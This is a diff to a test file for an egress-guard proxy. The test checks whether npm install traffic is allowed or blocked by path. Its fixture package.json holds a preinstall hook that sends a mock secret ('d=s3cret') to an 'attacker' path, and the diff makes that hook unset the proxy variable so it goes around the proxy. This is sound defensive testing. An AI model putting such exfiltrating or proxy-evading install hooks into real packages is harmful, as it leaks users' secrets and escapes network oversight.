@@ -211,7 +211,9 @@ for (const [mode, keyType] of [
     test('npm install through the inspected registry works; its preinstall https.get (redirected) is decided by path', async () => {
       const project = path.join(world.dir, `npm-install-${mode}`);
       mkdirSync(project, { recursive: true });
-      // node 20 ignores the proxy variables: the preinstall's requests are redirected transparently.
+      // A preinstall that ignores the proxy variables, as node 20 does: its requests are redirected transparently.
+      // node 24 honours them when NODE_USE_ENV_PROXY=1, which `egress-guard env` exports; the script drops it, as a
+      // script that goes around the proxy would, so that node 24 goes the same way.
       const get = (url: string) =>
         `require('https').get('${url}', (r) => { console.log('preinstall', r.statusCode, '${url}'); r.resume(); }).on('error', (e) => console.log('preinstall', e.code, '${url}'))`;
       const preinstall = [get('https://allowed.test/git/my-org/app.git/info/refs?service=git-upload-pack'), get('https://allowed.test/git/attacker/preinstall-drop?d=s3cret')].join(
@@ -219,7 +221,13 @@ for (const [mode, keyType] of [
       );
       writeFileSync(
         path.join(project, 'package.json'),
-        JSON.stringify({ name: 'job', version: '1.0.0', private: true, scripts: { preinstall: `node -e "${preinstall}"` }, dependencies: { [PACKAGE.name]: PACKAGE.version } }),
+        JSON.stringify({
+          name: 'job',
+          version: '1.0.0',
+          private: true,
+          scripts: { preinstall: `env -u NODE_USE_ENV_PROXY node -e "${preinstall}"` },
+          dependencies: { [PACKAGE.name]: PACKAGE.version },
+        }),
       );
       const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts', '--registry', 'https://registry.test/'], {
         cwd: project,
